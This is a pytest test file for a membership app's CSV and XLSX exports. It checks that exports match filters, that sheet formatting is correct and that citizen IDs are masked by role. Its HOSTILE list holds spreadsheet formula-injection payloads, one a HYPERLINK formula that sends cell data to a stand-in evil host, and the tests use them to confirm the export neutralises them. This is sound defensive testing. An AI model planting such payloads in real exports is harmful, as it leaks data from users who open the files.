"""Exports: every list filter exports exactly the listed rows; a working XLSX; no formula ever comes out live;
the citizen ID shown the same way on the list, the person page and the export."""
import csv
import io
import re
from datetime import date, datetime
from itertools import cycle

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from app.activities.standing import CRITERIA, VERDICTS
from tests.factories_members import *  # noqa: F401,F403


def list_count(client, qs):
    html = client.get("/members/?" + qs).get_data(as_text=True)
    m = re.search(r'<p class="muted small">(\d+) người', html)
    assert m, html[:300]
    return int(m.group(1)), sorted(re.findall(r'<a class="row" href="/members/\d+"><span>([^<]+)<', html))


def csv_rows(client, qs):
    resp = client.get("/members/export.csv?" + qs)
    assert resp.status_code == 200, (qs, resp.status_code)
    return list(csv.reader(io.StringIO(resp.data.decode("utf-8-sig"))))[1:]


def xlsx_sheet(client, qs):
    resp = client.get("/members/export.xlsx?" + qs)
    assert resp.status_code == 200, (qs, resp.status_code)
    return load_workbook(io.BytesIO(resp.data)).active


@pytest.fixture
def crowd(db, tree, make_person):
    """18 people across types, statuses, occupations, ages, with varied stored verdicts and failing criteria."""
    from app.activities.models import PersonStanding

    this_year = date.today().year
    kinds = cycle([("union", "active", "worker"), ("youth", "active", "farmer"), ("federation", "away", None),
                   ("union", "removed", "worker"), ("union", "active", None), ("youth", "matured", "worker")])
    verdicts = cycle([("real", (True,) * 5), ("incomplete", (True, True, False, True, True)),
                      ("paper", (False, True, True, False, True)), ("incomplete", (True, False, True, True, False)),
                      ("paper", (True, False, False, False, True))])
    people = []
    for i in range(18):
        mt, status, occ = next(kinds)
        born = date(this_year - 30, 5, 1 + i) if i % 4 == 0 else date(2001, 1, 1 + i)
        people.append(make_person(tree.B1 if i % 3 else tree.B2, f"Người Lọc {i:02d}", member_type=mt, status=status,
                                  occupation=occ, birth_date=born, citizen_id=f"0383000000{i:02d}"))
    for p in people:
        verdict, oks = next(verdicts)
        values = dict(zip(("person_ok", "name_ok", "gathered_ok", "dues_ok", "activity_ok"), oks), verdict=verdict)
        if db.session.get(PersonStanding, p.id) is None:
            db.session.add(PersonStanding(person_id=p.id, unit_id=p.unit_id, unit_path=p.unit_path, as_of=date.today(),
                                          **values))
        else:
            db.session.execute(update(PersonStanding).where(PersonStanding.person_id == p.id).values(**values))
    db.session.commit()
    return people


def filter_queries():
    from app.members.models import MEMBER_TYPES, STATUSES

    qs = [""]
    qs += [f"verdict={v}" for v in VERDICTS]
    qs += [f"failing={v}" for v in CRITERIA]
    qs += [f"type={v}" for v in MEMBER_TYPES]
    qs += [f"status={v}" for v in list(STATUSES) + ["all", "roll"]]
    qs += ["workers=1", "age30=1", "q=nguoi+loc+1", "verdict=paper&failing=dues", "verdict=real&type=union",
           "failing=name&workers=1", "status=all&verdict=incomplete"]
    return qs


def test_every_filter_exports_exactly_the_rows_the_list_shows(client, tree, make_user, login, crowd):
    make_user("tinh.officer", (tree.P, "officer"))
    login("tinh.officer")
    nonempty = 0
    for qs in filter_queries():
        for extra in ("", f"&unit={tree.C1.id}"):
            n, names = list_count(client, qs + extra)
            rows = csv_rows(client, qs + extra)
            ws = xlsx_sheet(client, qs + extra)
            xrows = [r for r in ws.iter_rows(min_row=3, values_only=True)]
            assert len(rows) == n == len(xrows), (qs + extra, n, len(rows), len(xrows))
            assert sorted(r[1] for r in rows) == names == sorted(r[1] for r in xrows), qs + extra
            nonempty += bool(n)
    assert nonempty >= 20  # the walk is not a walk over empty lists


def test_xlsx_is_a_working_sheet(client, tree, make_user, login, make_person):
    make_person(tree.B1, "Nguyễn Thị Ánh", citizen_id="001304001234", phone="0912345678", birth_date=date(2004, 3, 5),
                joined_on=date(2020, 3, 26))
    make_user("xa.officer", (tree.C1, "officer"))
    login("xa.officer")
    ws = xlsx_sheet(client, "")
    head = [c.value for c in ws[2]]
    row = {h: c for h, c in zip(head, ws[3])}
    assert ws.freeze_panes == "A3"
    assert ws.auto_filter.ref == "A2:W3"
    assert ws.column_dimensions["B"].width == 26 and ws.column_dimensions["I"].width == 15
    born = row["Ngày sinh"]
    assert born.is_date and born.value == datetime(2004, 3, 5) and born.number_format.upper() == "DD/MM/YYYY"
    assert row["Ngày vào Đoàn"].value == datetime(2020, 3, 26)
    assert row["Số CCCD"].data_type == "s" and row["Số CCCD"].value == "001304001234"  # the leading zeros stay
    assert row["Số điện thoại"].data_type == "s" and row["Số điện thoại"].value == "0912345678"


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_formulas_never_come_out_live(client, tree, make_user, login, make_person):
    for i, text in enumerate(HOSTILE):
        make_person(tree.B1, f"Người {i}", workplace=text, notes=text, religion=text[:40])
    make_person(tree.B1, HOSTILE[0])
    make_user("xa.officer", (tree.C1, "officer"))
    login("xa.officer")
    ws = xlsx_sheet(client, "")
    cells = [c for r in ws.iter_rows(min_row=2) for c in r if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    raw = client.get("/members/export.xlsx").data
    import zipfile

    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    values = {c.value for c in cells}
    assert HOSTILE[0] in values  # kept as the text it is
    rows = csv_rows(client, "")
    fields = [f for r in rows for f in r]
    for text in HOSTILE:
        assert "'" + text in fields, text
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_citizen_id_shown_the_same_everywhere_and_never_none(client, tree, make_user, login, make_person):
    with_id = make_person(tree.B1, "Có Số", citizen_id="038304001234")
    without = make_person(tree.B1, "Không Số", citizen_id=None)
    make_user("xa.officer", (tree.C1, "officer"))
    make_user("xa.viewer", (tree.C1, "viewer"))
    for user, shown in (("xa.officer", "038304001234"), ("xa.viewer", "********1234")):
        login(user)
        listing = client.get("/members/").get_data(as_text=True)
        page = client.get(f"/members/{with_id.id}").get_data(as_text=True)
        exported = {r[1]: r[8] for r in csv_rows(client, "")}
        assert shown in listing and shown in page and exported["Có Số"] == shown, user
        other = "********1234" if shown != "********1234" else "038304001234"
        assert other not in listing and other not in page
        bare = client.get(f"/members/{without.id}").get_data(as_text=True)
        assert "None" not in bare and exported["Không Số"] == ""
        client.post("/auth/logout")
